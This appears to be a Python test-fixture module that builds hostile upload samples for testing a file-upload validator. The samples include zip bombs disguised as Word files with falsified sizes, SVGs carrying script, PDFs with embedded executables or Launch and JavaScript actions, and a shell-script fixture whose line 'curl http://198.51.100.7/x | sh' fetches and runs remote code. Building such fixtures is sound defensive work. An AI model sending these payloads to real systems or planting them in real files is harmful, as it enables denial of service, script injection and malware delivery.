"""Hostile files for the upload abuse tests, built in memory: programs under document names, zip bombs dressed as
Word files, SVG with script, PDFs carrying files or actions. Nothing here is harmful outside a parser."""

from __future__ import annotations

import functools
import gzip
import io
import struct
import zipfile
import zlib

from ..assessments.evidence_samples import CONTENT_TYPES, PDF, docx_bytes


# Programs.
def pe_program() -> bytes:
    """A Windows program's headers: the MZ stub pointing at a PE header for x86."""
    stub = bytearray(b"MZ" + b"\x00" * 62)
    stub[0x3C:0x40] = struct.pack("<I", 64)
    return bytes(stub) + b"PE\x00\x00" + struct.pack("<HH", 0x014C, 1) + b"\x00" * 240


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HH", 2, 0x3E) + b"\x00" * 100
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 100
JAVA_CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 100
MSI = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # installers are OLE compound files, like .doc
SHELL_SCRIPT = "\ufeff#!/bin/bash\ncurl http://198.51.100.7/x | sh\n".encode()


def docx_hiding(name: str, content: bytes) -> bytes:
    """A real Word file with one more entry."""
    source, buffer = zipfile.ZipFile(io.BytesIO(docx_bytes())), io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            target.writestr(entry, source.read(entry))
        target.writestr(name, content)
    return buffer.getvalue()


# Zip bombs dressed as Word files.
def _docx_shell(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


@functools.cache
def ratio_bomb() -> bytes:
    """20 MB of zeros as word/document.xml: under the 100 MB expansion limit, but over 1,000 times compressed."""
    return _docx_shell({"word/document.xml": b"\x00" * (20 * 1024 * 1024)})


@functools.cache
def size_bomb() -> bytes:
    """Eleven 10 MB members: 110 MB once opened, a few hundred KB as uploaded."""
    return _docx_shell({f"word/media/part{i}.xml": b" " * (10 * 1024 * 1024) for i in range(11)})


def many_members() -> bytes:
    """A 'Word file' of 6,000 entries: each tiny, together enough to exhaust a server that opens them all."""
    return _docx_shell({"word/document.xml": b"<w/>", **{f"word/p/{i}.xml": b"" for i in range(6000)}})


@functools.cache
def lying_sizes() -> bytes:
    """A member that says it holds 1 KB but expands to 50 MB: the declared sizes are rewritten after packing,
    so checks that trust the directory pass and only reading the data finds it out."""
    return _declare_size(_docx_shell({"word/document.xml": b"\x00" * (50 * 1024 * 1024)}), 1024)


def declared_huge() -> bytes:
    """A directory that declares 4 GB of content: refused from the directory alone, before anything is read."""
    return _declare_size(_docx_shell({"word/document.xml": b"<w/>"}), 0xFFFFFFF0)


def _declare_size(packed: bytes, size: int, member: bytes = b"word/document.xml") -> bytes:
    """The archive with `member`'s uncompressed size rewritten in its local header and central directory."""
    data = bytearray(packed)
    info = zipfile.ZipFile(io.BytesIO(packed)).getinfo(member.decode())
    data[info.header_offset + 22 : info.header_offset + 26] = struct.pack("<I", size)
    for start in _all(packed, b"PK\x01\x02"):
        name_length = struct.unpack("<H", packed[start + 28 : start + 30])[0]
        if packed[start + 46 : start + 46 + name_length] == member:
            data[start + 24 : start + 28] = struct.pack("<I", size)
    return bytes(data)


def _all(data: bytes, needle: bytes):
    start = data.find(needle)
    while start >= 0:
        yield start
        start = data.find(needle, start + 1)


# SVG, which can carry script.
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><circle r="4"/></svg>'
SVG_WITH_PROLOG = b'<?xml version="1.0" encoding="UTF-8"?>\n' + SVG
SVG_AFTER_TEXT = b"Chart of training figures\n\n" + SVG
SVG_BOM_AND_SPACE = "\ufeff  \n\t".encode() + SVG
SVG_UTF16 = SVG.decode().encode("utf-16")
SVGZ = gzip.compress(SVG, mtime=0)
SVG_FOREIGN_OBJECT = (
    b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="javascript:alert(1)"/>'
    b"</foreignObject></svg>"
)


# PDFs that carry files, scripts or actions.
def _pdf_with(extra: bytes) -> bytes:
    return PDF.replace(b"trailer", extra + b"trailer")


PDF_EMBEDDED_FILE_STREAM = _pdf_with(
    b"5 0 obj\n<< /Type /EmbeddedFile /Subtype /application#2Fx-msdownload /Length 4 >>\nstream\nMZ\x90\x00\n"
    b"endstream\nendobj\n"
)
PDF_FILE_ATTACHMENT_ANNOTATION = _pdf_with(
    # A file attached to a page's annotation: no /EmbeddedFile(s) name at all (the stream's /Type is optional).
    b"4 0 obj\n<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 6 0 R >>\nendobj\n"
    b"6 0 obj\n<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>\nendobj\n"
    b"5 0 obj\n<< /Length 4 >>\nstream\nMZ\x90\x00\nendstream\nendobj\n"
)
PDF_EF_ONLY = _pdf_with(b"6 0 obj\n<< /F (run.bat) /EF<</F 5 0 R>> >>\nendobj\n")
PDF_GOTO_EMBEDDED = PDF.replace(
    b"/Pages 2 0 R", b"/Pages 2 0 R /OpenAction << /S /GoToE /T << /R /C /N (a) >> >>"
)
PDF_OBFUSCATED_JAVASCRIPT = PDF.replace(
    b"/Pages 2 0 R", b"/Pages 2 0 R /OpenAction << /S /J#61va#53cript /JS 7 0 R >>"
)
PDF_LAUNCH = PDF.replace(
    b"/Pages 2 0 R", b"/Pages 2 0 R /AA << /O << /S /Launch /Win << /F (cmd.exe) >> >> >>"
)
PDF_XFA = PDF.replace(b"/Pages 2 0 R", b"/Pages 2 0 R /AcroForm << /Fields [] /XFA 8 0 R >>")


def pdf_object_stream(body: bytes, *, hex_first: bool = False) -> bytes:
    """A PDF 1.5 object stream holding `body`, deflated, optionally hex-encoded on top (two filters)."""
    packed = zlib.compress(body)
    filters = b"/Filter /FlateDecode"
    if hex_first:
        packed, filters = packed.hex().encode() + b">", b"/Filter [/ASCIIHexDecode /FlateDecode]"
    return (
        b"%PDF-1.5\n4 0 obj\n<< /Type /ObjStm /N 1 /First 4 "
        + filters
        + b" /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\n%%EOF\n"
    )


PDF_EMBEDDED_IN_OBJECT_STREAM = pdf_object_stream(
    b"3 0 << /Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> >>", hex_first=True
)
# Readers find the header anywhere in the first kilobyte, so text in front of it must not make it 'text'.
PDF_AFTER_TEXT = b"Notes for the board\n" + PDF.replace(
    b"/Pages 2 0 R", b"/Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL('x')) >>"
)

# Images with something after their end.
JPEG_WITH_ZIP = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    b"\xff\xda\x00\x08\x01\x01\x00\x00?\x00\x12\x34\xff\xd9"
) + docx_hiding("word/run.vbs", b'CreateObject("WScript.Shell").Run "calc"')
